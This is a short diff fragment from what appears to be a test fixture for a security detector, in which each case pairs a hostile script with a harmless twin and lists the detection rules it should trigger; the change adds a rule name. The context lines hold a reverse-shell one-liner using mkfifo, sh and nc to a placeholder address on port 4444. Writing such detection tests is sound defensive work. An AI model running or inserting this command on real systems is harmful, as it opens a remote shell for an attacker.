@@ -34,7 +34,7 @@ subprocess.run(["sh"], input=connection.recv(100), check=True)`)}`,
     options: ownNetwork,
     script: `${internet(4444)}rm -f /srv/f; mkfifo /srv/f; cat /srv/f | sh 2>&1 | nc ${ADDRESS} 4444 >/srv/f`,
     twin: `${internet(4444)}mkfifo /srv/f; (echo true >/srv/f &); cat /srv/f; nc ${ADDRESS} 4444 </dev/null`,
-    rules: ["Shell Connected Through Named Pipe"],
+    rules: ["Shell Connected Through Named Pipe", "Shell Started Behind Named Pipe"],
   },
   {
     name: "download-piped",
